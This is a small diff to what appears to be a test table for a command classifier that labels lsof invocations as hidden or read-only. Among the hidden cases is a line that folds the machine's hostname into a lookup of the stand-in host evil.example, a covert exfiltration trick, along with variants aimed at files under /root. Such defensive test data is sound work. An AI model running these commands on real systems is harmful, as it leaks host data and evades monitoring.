@@ -142,7 +142,7 @@ const CASES: readonly Case[] = [
       hidden: [
         'x=$(hostname); lsof -i "@1.$x.evil.example"',
         "lsof -A /root/x",
-        "lsof -nk /root/x",
+        "lsof -nsk/root/x",
       ],
       read: [
         "lsof -nP -iTCP -sTCP:LISTEN",
